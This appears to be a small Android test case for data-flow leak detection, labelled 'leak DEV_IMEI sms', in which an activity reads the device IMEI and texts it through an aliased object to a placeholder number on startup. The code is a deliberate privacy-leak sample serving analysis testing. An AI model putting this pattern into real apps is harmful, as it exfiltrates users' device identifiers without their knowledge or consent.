// about       Two local names mean the same object; it is written by one name, sent by the other.
// leak        DEV_IMEI sms
package cn.example.flow;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  static class Note {
    String text = "empty";
  }

  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
    Note first = new Note();
    // Both names mean one object.
    Note second = first;
    first.text = phone.getDeviceId();
    SmsManager.getDefault().sendTextMessage("+15550100", null, second.text, null, null);
  }
}
